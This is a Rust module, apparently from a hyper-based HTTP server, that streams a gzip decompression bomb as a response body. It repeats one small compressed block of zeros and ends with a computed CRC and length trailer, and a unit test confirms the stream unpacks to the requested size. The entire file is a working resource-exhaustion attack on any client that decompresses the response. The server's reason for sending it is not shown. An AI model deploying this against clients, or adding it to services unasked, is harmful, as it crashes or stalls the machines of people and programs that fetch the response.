//! A decompression bomb: a valid gzip stream of any number of zeros, made while it is sent.
//!
//! Costs one small block, which is sent again and again; only its end is counted. Must never hold
//! more than that block, packed or unpacked.

use std::{convert::Infallible, iter};

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};
use futures_util::stream;
use http_body_util::StreamBody;
use hyper::body::Frame;

/// Zeros in one block.
const BLOCK: usize = 1 << 20;

/// The stream of `zeros` zeros as the body of an answer.
pub(super) fn body(
    zeros: u64,
) -> StreamBody<impl stream::Stream<Item = Result<Frame<Bytes>, Infallible>>> {
    StreamBody::new(stream::iter(parts(zeros).map(|part| Ok(Frame::data(part)))))
}

/// Header, whole blocks, what is left over, trailer.
fn parts(zeros: u64) -> impl Iterator<Item = Bytes> {
    let whole = Bytes::from(deflate(BLOCK, FlushCompress::Full));
    let count = (zeros / BLOCK as u64) as usize;
    let rest = (zeros % BLOCK as u64) as usize;
    let head = Bytes::from_static(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
    let tail = move || {
        let mut end = deflate(rest, FlushCompress::Finish);
        end.extend(checksum(count, rest).to_le_bytes());
        end.extend((zeros as u32).to_le_bytes());
        Bytes::from(end)
    };
    iter::once(head).chain(iter::repeat_n(whole, count)).chain(iter::once_with(tail))
}

/// This many zeros as raw deflate blocks that refer to nothing before them.
fn deflate(zeros: usize, end: FlushCompress) -> Vec<u8> {
    let mut packed = Vec::with_capacity(zeros / 512 + 1024);
    // Memory is the only thing that can fail here, and a short block is a valid end of a bomb.
    let _ =
        Compress::new(Compression::best(), false).compress_vec(&vec![0; zeros], &mut packed, end);
    packed
}

fn checksum(count: usize, rest: usize) -> u32 {
    let (mut block, mut sum) = (Crc::new(), Crc::new());
    block.update(&vec![0; BLOCK]);
    (0..count).for_each(|_| sum.combine(&block));
    let mut end = Crc::new();
    end.update(&vec![0; rest]);
    sum.combine(&end);
    sum.sum()
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use flate2::read::GzDecoder;

    use super::*;

    #[test]
    fn is_a_valid_gzip_stream_of_zeros() {
        for zeros in [0, 1, BLOCK as u64, 3 * BLOCK as u64 + 17] {
            let packed: Vec<u8> = parts(zeros).flatten().collect();
            let mut plain = Vec::new();
            GzDecoder::new(packed.as_slice()).read_to_end(&mut plain).unwrap();
            assert_eq!(plain.len() as u64, zeros);
            assert!(plain.iter().all(|byte| *byte == 0));
        }
    }
}
